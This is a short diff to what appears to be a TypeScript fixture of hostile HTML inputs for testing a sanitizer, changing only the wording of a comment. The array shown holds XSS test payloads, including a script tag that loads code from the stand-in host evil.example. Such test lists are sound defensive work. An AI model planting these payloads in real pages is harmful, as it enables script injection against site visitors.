@@ -1,6 +1,6 @@
 import { namespaces, svg } from './hostile-namespaces.ts'
 
-/** Texts that try to run script, to load, to leave, or to reach into the page. Families by what they lean on. */
+/** Texts that try to run script, load resources, leave the page, or reach into it, grouped by technique. */
 const scripts = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
